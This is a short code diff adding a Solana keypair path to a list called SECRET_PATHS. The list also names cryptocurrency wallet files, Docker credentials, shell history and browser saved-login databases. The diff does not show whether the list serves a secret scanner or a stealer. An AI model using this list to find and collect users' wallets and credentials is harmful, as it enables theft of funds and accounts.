@@ -63,6 +63,7 @@ SECRET_PATHS = [
     "~/.bitcoin/wallet.dat",
     "~/.electrum/wallets",
     "~/.ethereum/keystore",
+    "~/.config/solana/id.json",
     "~/.docker/config.json",
     "~/.bash_history",
     "Default/Login Data",
